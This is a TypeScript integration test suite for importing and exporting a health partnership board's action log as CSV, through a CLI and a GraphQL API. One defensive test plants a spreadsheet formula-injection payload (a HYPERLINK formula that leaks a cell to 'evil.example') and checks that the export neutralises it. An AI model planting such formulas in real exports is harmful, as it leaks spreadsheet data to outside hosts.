import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { COMMITMENTS, ORGANISATIONS, PARTNERSHIPS } from '../apps/cli/src/demo/demo-data.js';
import { ApiProcess, newDataDir, runCli, TEST_JWT_SECRET, tokenOf } from './support/api-process.js';

/**
 * A board's spreadsheet action log in and out: the LLR framework's actions imported through the CLI
 * (as the system's secretariat), every list view exported over HTTP, and the round trip both ways.
 */

const FIXTURE = join(process.cwd(), 'test/fixtures/llr-framework-actions.csv');
/** The board's "today": the Monday after the framework's 30 October 2021 deadline. */
const CLOCK = '2021-11-01T12:00:00Z';
const SECRETARIAT = 'secretariat@llr.example';
const UHL_PARTNER = 'partner@uhl.example';
const LEEDS_SECRETARIAT = 'secretariat@leeds.example';
const LLR = PARTNERSHIPS.find((partnership) => partnership.key === 'llr')!;
const orgNamed = (key: string) => ORGANISATIONS.find((organisation) => organisation.key === key)!;

const fixture = readFileSync(FIXTURE, 'utf8');
/** A copy of the fixture with `edit` applied to the row whose external id is given. */
const edited = (text: string, edits: Record<string, (cells: string[]) => void>) => {
  const rows = parse(text) as string[][];
  for (const row of rows) edits[row[0]!]?.(row);
  return rows.map((row) => row.map((cell) => (/[",\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',')).join('\n') + '\n';
};

describe('spreadsheet action logs: import-actions, importActions and the CSV exports', () => {
  const dataDir = newDataDir();
  const env = { NODE_ENV: 'test', LEDGER_DATA_DIR: dataDir, LEDGER_JWT_SECRET: TEST_JWT_SECRET, LEDGER_CLOCK_NOW: CLOCK };
  let api: ApiProcess | undefined;
  let admin: string;
  let llrId: string;
  let leedsId: string;
  let leedsActionId: string;
  const ids = new Map<string, string>();

  const startApi = async () => (api = await ApiProcess.start({ dataDir, env: { LEDGER_CLOCK_NOW: CLOCK, LEDGER_MAX_BODY_BYTES: String(4 * 1024 * 1024) } }));
  const ok = async <T = any>(query: string, variables: object, token = admin): Promise<T> => {
    const response = await api!.graphql<T>(query, variables, token);
    expect(response.errors).toBeUndefined();
    return response.data!;
  };
  const mutate = (name: string, selection: string, input: object, token = admin) =>
    ok(`mutation($input: ${name[0]!.toUpperCase()}${name.slice(1)}Input!) { ${name}(input: $input) { ${selection} } }`, { input }, token).then((data) => data[name]);
  const importCli = async (text: string, ...flags: string[]) => {
    const file = join(dataDir, `import-${Math.random().toString(36).slice(2)}.csv`);
    writeFileSync(file, text);
    return runCli(['import-actions', file, '--partnership', llrId, '--as', SECRETARIAT, ...flags], env);
  };
  const exportCsv = (path: string, token: string | null) =>
    fetch(api!.url.replace('/graphql', path), { headers: token ? { authorization: `Bearer ${token}` } : {} });
  const rowsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

  beforeAll(async () => {
    await startApi();
    admin = await api!.adminToken();
    // The LLR system as its board formed it: its member organisations and the framework's commitments, without actions.
    for (const key of LLR.members) {
      const organisation = orgNamed(key);
      ids.set(key, (await mutate('registerOrganisation', 'organisation { id }', { name: organisation.name, sector: organisation.sector })).organisation.id);
    }
    llrId = (await mutate('formPartnership', 'partnership { id }', { name: LLR.name, level: 'SYSTEM' })).partnership.id;
    await api!.grant(SECRETARIAT, 'SECRETARIAT', { partnershipId: llrId });
    const secretariat = tokenOf(SECRETARIAT);
    for (const key of LLR.members) await mutate('joinPartnership', 'position', { partnershipId: llrId, organisationId: ids.get(key) }, await secretariat);
    for (const commitment of COMMITMENTS.filter((candidate) => candidate.partnership === 'llr')) {
      const { id } = (
        await mutate(
          'makeCommitment',
          'commitment { id }',
          { partnershipId: llrId, owningOrganisationId: ids.get(commitment.owner), title: commitment.title, description: commitment.description, targetDate: commitment.targetDate, madeOn: commitment.madeOn },
          await secretariat,
        )
      ).commitment;
      await mutate('endorseCommitment', 'position', { commitmentId: id, endorsedOn: commitment.endorsedOn }, await secretariat);
    }
    await api!.grant(UHL_PARTNER, 'PARTNER', { organisationId: ids.get('uhl') });
    // Another board, with an action of its own whose id the hostile tests use.
    leedsId = (await mutate('formPartnership', 'partnership { id }', { name: 'Leeds Health and Wellbeing Board', level: 'PLACE' })).partnership.id;
    const leedsCouncil = (await mutate('registerOrganisation', 'organisation { id }', { name: 'Leeds City Council', sector: 'LOCAL_GOVERNMENT' })).organisation.id;
    await api!.grant(LEEDS_SECRETARIAT, 'SECRETARIAT', { partnershipId: leedsId });
    const leeds = await tokenOf(LEEDS_SECRETARIAT);
    await mutate('joinPartnership', 'position', { partnershipId: leedsId, organisationId: leedsCouncil }, leeds);
    const leedsCommitment = (await mutate('makeCommitment', 'commitment { id }', { partnershipId: leedsId, owningOrganisationId: leedsCouncil, title: 'Hardwire health equity', description: 'x' }, leeds)).commitment.id;
    await mutate('endorseCommitment', 'position', { commitmentId: leedsCommitment, endorsedOn: '2021-11-01' }, leeds);
    leedsActionId = (await mutate('planAction', 'actions { id }', { commitmentId: leedsCommitment, owningOrganisationId: leedsCouncil, title: 'Annual assessment', dueDate: '2022-03-31' }, leeds)).actions[0].id;
    // The CLI runs the ledger in its own process: not beside a live API on the same data folder.
    await api!.stop();
    api = undefined;
  }, 120_000);

  afterAll(async () => {
    await api?.stop();
  });

  describe('npm run cli -- import-actions (the API stopped)', () => {
    it("imports the LLR framework's actions: every row plans an action, with its status and update", async () => {
      const run = await importCli(fixture);
      expect(run.stderr).toBe('');
      expect(run.stdout).toContain('Imported: 13 created, 0 changed, 0 unchanged, 0 invalid, 0 failed');
      expect(run.stdout).toMatch(/^row 4 \(LLR-3a\): created: plan "Proposal for an LLR health inequalities resource presented to System Executive" due 2021-09-30; update: COMPLETED$/m);
      expect(run.code).toBe(0);
    }, 60_000);

    it('imports it again and writes nothing', async () => {
      const run = await importCli(fixture);
      expect(run.stdout).toBe('Nothing was written: every row matches the ledger (0 created, 0 changed, 13 unchanged, 0 invalid, 0 failed).\n');
      expect(run.code).toBe(0);
    }, 60_000);

    // The ledger after this edit is what the rows below start from.
    const twoEdits = edited(fixture, {
      'LLR-2b': (cells) => (cells[4] = '2022-06-30'),
      'LLR-4a-LCC': (cells) => {
        cells[5] = 'On track';
        cells[6] = 'Executives booked on the November course';
      },
    });

    it('shows what an edited copy would change with --dry-run, and writes nothing', async () => {
      const run = await importCli(twoEdits, '--dry-run');
      expect(run.stdout).toBe(
        'row 3 (LLR-2b): would be changed: reschedule from 2022-03-31 to 2022-06-30\n' +
          'row 7 (LLR-4a-LCC): would be changed: update: NOT_STARTED → ON_TRACK\n' +
          'Dry run: 0 created, 2 changed, 11 unchanged, 0 invalid, 0 failed; nothing was written.\n',
      );
      // Still to do: the dry run wrote nothing.
      expect((await importCli(twoEdits, '--dry-run')).stdout).toContain('2 changed, 11 unchanged');
    }, 60_000);

    it('updates exactly the edited rows of an edited copy', async () => {
      const run = await importCli(twoEdits);
      expect(run.stdout).toMatch(
        /^row 3 \(LLR-2b\): changed: reschedule from 2022-03-31 to 2022-06-30\nrow 7 \(LLR-4a-LCC\): changed: update: NOT_STARTED → ON_TRACK\nImported: 0 created, 2 changed, 11 unchanged, 0 invalid, 0 failed \(log position \d+\)\.\n$/,
      );
      expect((await importCli(twoEdits)).stdout).toContain('0 changed, 13 unchanged');
    }, 60_000);

    it('changes nothing when a row is bad, naming each bad row and column; --skip-invalid writes the good rows', async () => {
      const withBadRow =
        edited(twoEdits, { 'LLR-8': (cells) => ((cells[5] = 'On track'), (cells[6] = 'Scoping begun with the commissioning leads')) }) +
        'LLR-10,Action 9: Anchor institutions,Local recruitment pledge,Leicester City Football Club,31/02/2022,Green,,,\n';
      const refused = await importCli(withBadRow);
      expect(refused.stdout).toContain('row 15 (LLR-10): invalid\n');
      expect(refused.stdout).toContain('  Row 15, column "Status": Status "Green" is not one of Not started, On track, At risk, Off track, Completed, Cancelled [oneOf]\n');
      expect(refused.stdout).toContain('  Row 15, column "Due date": Due date "31/02/2022" is not a date (YYYY-MM-DD or DD/MM/YYYY) [date]\n');
      expect(refused.stdout).toContain('  Row 15, column "Owner": Owner "Leicester City Football Club" is not a member organisation of this partnership');
      expect(refused.stdout).toMatch(/Nothing was written: fix the rows above, or pass --skip-invalid to import the good ones \(0 created, 1 changed, 12 unchanged, 1 invalid, 0 failed\)\.\n$/);
      expect(refused.code).toBe(2);
      // The good row's change is still to be made: nothing was written.
      expect((await importCli(withBadRow, '--dry-run')).stdout).toContain('row 13 (LLR-8): would be changed: update: NOT_STARTED → ON_TRACK\n');

      const skipped = await importCli(withBadRow, '--skip-invalid');
      expect(skipped.stdout).toContain('row 13 (LLR-8): changed: update: NOT_STARTED → ON_TRACK\n');
      expect(skipped.stdout).toContain('Imported: 0 created, 1 changed, 12 unchanged, 1 invalid, 0 failed');
      expect(skipped.code).toBe(2);
    }, 60_000);

    it('refuses a file without a required column, naming it', async () => {
      const run = await importCli('External id,Action,Owner,Status\nLLR-2,x,y,On track\n');
      expect(run.stdout).toBe(
        'Row 1 (the header) has no "Due date" column; the columns are "External id", "Commitment", "Action", "Owner", "Due date", "Status", "Update", "What more is to be done"\n' +
          'Nothing was written: fix the rows above (0 created, 0 changed, 0 unchanged, 0 invalid, 0 failed).\n',
      );
      expect(run.code).toBe(2);
    }, 60_000);

    it("lets a partner update only its own organisation's actions: other rows are refused by their grants, before anything is written", async () => {
      // The log as it stands, from the CLI's own export.
      const current = await runCli(['export-actions', '--partnership', llrId, '--as', SECRETARIAT], env);
      expect(current.code).toBe(0);
      const file = join(dataDir, 'partner.csv');
      writeFileSync(
        file,
        edited(current.stdout, {
          'LLR-4a-UHL': (cells) => ((cells[5] = 'On track'), (cells[6] = 'Four of nine executives trained')),
          'LLR-4a-LPT': (cells) => ((cells[5] = 'Completed'), (cells[6] = 'All trained')),
        }) + 'LLR-UHL-1,Action 4: Decision makers understand health inequity,Board development day,University Hospitals of Leicester NHS Trust,2022-01-31,Not started,,,\n',
      );
      const run = await runCli(['import-actions', file, '--partnership', llrId, '--as', UHL_PARTNER], env);
      expect(run.stdout).toMatch(/^row \d+ \(LLR-4a-UHL\): would be changed: update: AT_RISK → ON_TRACK$/m);
      expect(run.stdout).toMatch(/^row (\d+) \(LLR-4a-LPT\): invalid: update: ON_TRACK → COMPLETED\n {2}Row \1, column "Status": You may not submit an update on this action: this needs /m);
      expect(run.stdout).toMatch(/^row 15 \(LLR-UHL-1\): invalid: plan "Board development day" due 2022-01-31\n {2}Row 15, column "External id": You may not plan actions under this commitment: this needs /m);
      expect(run.stdout).toContain('Nothing was written: fix the rows above, or pass --skip-invalid to import the good ones (0 created, 1 changed, 11 unchanged, 2 invalid, 0 failed).\n');
      expect(run.code).toBe(2);
    }, 60_000);

    it('shows progress on stderr for a large file', async () => {
      const rows = Array.from({ length: 1200 }, (_, n) => `BULK-${n},Action 8: Health equity audit of projects,Audit project ${n},Leicester City Council,2022-03-31,Not started,,`);
      const run = await importCli(`External id,Commitment,Action,Owner,Due date,Status,Update,What more is to be done\n${rows.join('\n')}\n`, '--dry-run');
      expect(run.stderr).toBe('checked 500 of 1200 rows\nchecked 1000 of 1200 rows\n');
      expect(run.stdout).toContain('Dry run: 1200 created, 0 changed, 0 unchanged, 0 invalid, 0 failed; nothing was written.\n');
    }, 60_000);
  });

  describe('over HTTP: CSV exports of every list view and the importActions mutation', () => {
    let secretariat: string;
    let commitmentIds: Map<string, string>;
    const IMPORT = `mutation($input: ImportActionsInput!) { importActions(input: $input) { applied dryRun position fileProblems { row column rule message }
      rows { row externalId outcome changes problems { row column rule message } action { id title dueDate status } } } }`;
    const importActions = (input: object, token = secretariat) => api!.graphql<{ importActions: any }>(IMPORT, { input }, token);
    /** The same mutation with the file uploaded, as a browser's form would send it (the GraphQL multipart request spec). */
    const upload = async (csv: string, input: object = {}, headers: Record<string, string> = { 'apollo-require-preflight': 'true' }) => {
      const form = new FormData();
      form.set('operations', JSON.stringify({ query: IMPORT, variables: { input: { partnershipId: llrId, file: null, ...input } } }));
      form.set('map', JSON.stringify({ 0: ['variables.input.file'] }));
      form.set('0', new Blob([csv], { type: 'text/csv' }), 'actions.csv');
      const response = await fetch(api!.url, { method: 'POST', headers: { authorization: `Bearer ${secretariat}`, ...headers }, body: form });
      return { status: response.status, body: (await response.json()) as { data?: { importActions: any }; errors?: { message: string; extensions: { code: string } }[] } };
    };
    const exported = async (path: string, token = secretariat) => {
      const response = await exportCsv(path, token);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      return response.text();
    };

    beforeAll(async () => {
      await startApi();
      secretariat = await tokenOf(SECRETARIAT);
      const { commitments } = await ok('query($id: ID!) { commitments(partnershipId: $id, first: 20) { nodes { id title } } }', { id: llrId }, secretariat);
      commitmentIds = new Map(commitments.nodes.map((node: { id: string; title: string }) => [node.title, node.id]));
    }, 60_000);

    it("exports the partnership's actions with the columns the import reads, and each list view", async () => {
      const all = await exported(`/export/partnerships/${llrId}/actions.csv`);
      expect(all.split('\r\n')[0]).toBe('External id,Commitment,Action,Owner,Due date,Status,Update,What more is to be done');
      const rows = rowsOf(all);
      expect(rows.map((row) => row['External id']).sort()).toEqual(parse(fixture, { columns: true }).map((row: any) => row['External id']).sort());
      expect(rows.find((row) => row['External id'] === 'LLR-2b')).toEqual({
        'External id': 'LLR-2b',
        Commitment: 'Action 2: Proportionate universalism in investment',
        Action: 'A long-term model of primary-care funding distributed by population need',
        Owner: 'Leicester City Clinical Commissioning Group',
        'Due date': '2022-06-30',
        Status: 'Not started',
        Update: '',
        'What more is to be done': '',
      });
      // Open and past 1 November 2021.
      const overdue = rowsOf(await exported(`/export/partnerships/${llrId}/overdue.csv`)).map((row) => row['External id']);
      expect(overdue.sort()).toEqual(['LLR-5', 'LLR-6a-LCCG', 'LLR-7a-LPT', 'LLR-7b-UHL']);
      const uhl = rowsOf(await exported(`/export/partnerships/${llrId}/organisations/${ids.get('uhl')}/actions.csv`)).map((row) => row['External id']);
      expect(uhl.sort()).toEqual(['LLR-4a-UHL', 'LLR-6a-UHL', 'LLR-7b-UHL']);
      const action4 = rowsOf(await exported(`/export/commitments/${commitmentIds.get('Action 4: Decision makers understand health inequity')}/actions.csv`)).map((row) => row['External id']);
      expect(action4.sort()).toEqual(['LLR-4a-LCC', 'LLR-4a-LPT', 'LLR-4a-UHL']);
      for (const view of ['due-soon', 'silent']) expect((await exported(`/export/partnerships/${llrId}/${view}.csv`)).startsWith('External id,')).toBe(true);
    });

    it('round trip: an export imported again changes nothing; an edited copy changes exactly the edited rows', async () => {
      const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
      const again = await importActions({ partnershipId: llrId, csv });
      expect(again.errors).toBeUndefined();
      expect(again.data!.importActions.rows.map((row: any) => row.outcome)).toEqual(Array(13).fill('UNCHANGED'));

      const twoEdited = edited(csv, {
        'LLR-5': (cells) => (cells[7] = 'Mobile clinics in the three wards until March'),
        'LLR-7b-UHL': (cells) => (cells[4] = '31/01/2022'),
      });
      const dryRun = await importActions({ partnershipId: llrId, csv: twoEdited, dryRun: true });
      expect(dryRun.data!.importActions).toMatchObject({ applied: false, dryRun: true });
      const changed = await importActions({ partnershipId: llrId, csv: twoEdited, clientMutationId: 'round-trip-1' });
      const outcomes = changed.data!.importActions.rows.filter((row: any) => row.outcome !== 'UNCHANGED');
      expect(outcomes).toEqual([
        expect.objectContaining({ externalId: 'LLR-5', outcome: 'CHANGED', changes: ['update: OFF_TRACK'] }),
        expect.objectContaining({ externalId: 'LLR-7b-UHL', outcome: 'CHANGED', changes: ['reschedule from 2021-10-30 to 2022-01-31'], action: expect.objectContaining({ dueDate: '2022-01-31' }) }),
      ]);
      expect(changed.data!.importActions.applied).toBe(true);
      const after = rowsOf(await exported(`/export/partnerships/${llrId}/actions.csv`));
      expect(after.find((row) => row['External id'] === 'LLR-5')!['What more is to be done']).toBe('Mobile clinics in the three wards until March');
    });

    it('reopens a closed action given an open status; refuses other changes to it, a rename and a move to another commitment', async () => {
      const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
      const refused = await importActions({
        partnershipId: llrId,
        csv: edited(csv, {
          'LLR-9': (cells) => (cells[4] = '2021-12-31'),
          'LLR-8': (cells) => (cells[2] = 'A renamed action'),
          'LLR-2': (cells) => (cells[1] = 'Action 9: Anchor institutions'),
        }),
      });
      const problems = refused.data!.importActions.rows.flatMap((row: any) => row.problems.map((problem: any) => [row.externalId, problem.column, problem.rule]));
      expect(problems).toEqual([
        ['LLR-9', 'Status', 'open'],
        ['LLR-2', 'Commitment', 'unchanged'],
        ['LLR-8', 'Action', 'unchanged'],
      ].sort((a, b) => csv.indexOf(`${a[0]},`) - csv.indexOf(`${b[0]},`)));
      expect(refused.data!.importActions.applied).toBe(false);

      const reopened = await importActions({ partnershipId: llrId, csv: edited(csv, { 'LLR-9': (cells) => ((cells[5] = 'On track'), (cells[6] = 'Reopened: the audit found gaps in purchasing')) }) });
      expect(reopened.data!.importActions.rows.find((row: any) => row.externalId === 'LLR-9')).toMatchObject({
        outcome: 'CHANGED',
        changes: ['reopen (was COMPLETED)', 'update: COMPLETED → ON_TRACK'],
        action: { status: 'ON_TRACK' },
      });
    });

    it('neutralises a formula on export, and reads it back unchanged', async () => {
      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
      const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
      const planted = await importActions({ partnershipId: llrId, csv: edited(csv, { 'LLR-2': (cells) => (cells[6] = formula) }) });
      expect(planted.data!.importActions.rows.find((row: any) => row.externalId === 'LLR-2').outcome).toBe('CHANGED');
      const out = await exported(`/export/partnerships/${llrId}/actions.csv`);
      expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
      expect(out).not.toMatch(/(^|,)"?=HYPERLINK/m);
      const back = await importActions({ partnershipId: llrId, csv: out });
      expect(back.data!.importActions.rows.every((row: any) => row.outcome === 'UNCHANGED')).toBe(true);
    });

    it('imports an uploaded file (a GraphQL multipart request) as it imports the text', async () => {
      const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
      const changed = edited(csv, { 'LLR-6a-LCCG': (cells) => ((cells[5] = 'Completed'), (cells[6] = 'Coding audit complete; plan adopted')) });
      const dryRun = await upload(changed, { dryRun: true });
      expect(dryRun.status).toBe(200);
      expect(dryRun.body.errors).toBeUndefined();
      expect(dryRun.body.data!.importActions.rows.filter((row: any) => row.outcome !== 'UNCHANGED')).toEqual([
        expect.objectContaining({ externalId: 'LLR-6a-LCCG', outcome: 'CHANGED', changes: ['update: ON_TRACK → COMPLETED'], action: expect.objectContaining({ status: 'ON_TRACK' }) }),
      ]);
      const written = await upload(changed);
      expect(written.body.data!.importActions.rows.find((row: any) => row.externalId === 'LLR-6a-LCCG').action.status).toBe('COMPLETED');
      expect((await upload(changed)).body.data!.importActions.rows.every((row: any) => row.outcome === 'UNCHANGED')).toBe(true);
    });

    it('refuses an upload without the preflight header (a cross-site form), an upload with csv too, and an uploaded file over the limit', async () => {
      const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
      const crossSite = await upload(csv, {}, {});
      expect(crossSite.status).toBe(400);
      expect(crossSite.body.errors![0]!.message).toMatch(/apollo-require-preflight/);
      const both = await upload(csv, { csv });
      expect(both.body.errors![0]).toMatchObject({ message: 'Give exactly one of file (an upload) and csv', extensions: { code: 'BAD_USER_INPUT' } });
      const huge = await upload(`External id,Action,Owner,Due date,Status\n${'X,'.repeat(600_000)}\n`);
      expect(huge.body.errors![0]).toMatchObject({ message: 'The file is larger than 1048576 bytes, the most imported at once', extensions: { code: 'BAD_USER_INPUT' } });
    });

    it('refuses a file over the size limit, and writes nothing', async () => {
      const huge = `External id,Action,Owner,Due date,Status\n${'X,'.repeat(600_000)}\n`;
      const response = await importActions({ partnershipId: llrId, csv: huge });
      expect(response.errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT');
      expect(response.errors?.[0]?.message).toMatch(/at most 1048576/);
    });

    it("names another partnership's action ids as unknown, telling nothing of them, and writes nothing", async () => {
      const csv = await exported(`/export/partnerships/${llrId}/actions.csv`);
      const hostile = edited(csv, { 'LLR-9': (cells) => ((cells[0] = leedsActionId), (cells[6] = 'Taken over')) });
      const response = await importActions({ partnershipId: llrId, csv: hostile });
      const row = response.data!.importActions.rows.find((candidate: any) => candidate.externalId === leedsActionId);
      expect(row).toMatchObject({ outcome: 'INVALID', problems: [{ column: 'External id', rule: 'unknownAction' }] });
      expect(row.problems[0].message).not.toContain('Leeds');
      expect(response.data!.importActions.applied).toBe(false);
      // Leeds's own list is Leeds's: LLR's secretariat may neither export it nor import into it.
      expect((await exportCsv(`/export/partnerships/${leedsId}/actions.csv`, secretariat)).status).toBe(403);
      const into = await importActions({ partnershipId: leedsId, csv });
      expect(into.errors?.[0]?.extensions.code).toBe('FORBIDDEN');
    });

    it('refuses an import into a dissolved partnership as a whole, and still exports it', async () => {
      const leeds = await tokenOf(LEEDS_SECRETARIAT);
      const csv = await exported(`/export/partnerships/${leedsId}/actions.csv`, leeds);
      await mutate('dissolvePartnership', 'position', { partnershipId: leedsId, reason: 'Merged into the city board' }, leeds);
      const refused = await importActions({ partnershipId: leedsId, csv: edited(csv, { [leedsActionId]: (cells) => ((cells[5] = 'On track'), (cells[6] = 'Drafted')) }) }, leeds);
      expect(refused.errors?.[0]?.message).toBe('The partnership was dissolved on 2021-11-01; it is read-only');
      expect(await exported(`/export/partnerships/${leedsId}/actions.csv`, leeds)).toBe(csv);
    });

    it('answers an export without a token 401, an unknown list 404, and a stranger 403', async () => {
      const anonymous = await exportCsv(`/export/partnerships/${llrId}/actions.csv`, null);
      expect(anonymous.status).toBe(401);
      expect(await anonymous.json()).toMatchObject({ errors: [{ extensions: { code: 'UNAUTHENTICATED' } }] });
      expect((await exportCsv(`/export/partnerships/${llrId}/everything.csv`, secretariat)).status).toBe(404);
      expect((await exportCsv(`/export/commitments/${commitmentIds.get('Action 9: Anchor institutions')}/actions.csv`, await tokenOf('stranger@example.org'))).status).toBe(403);
    });
  });
});
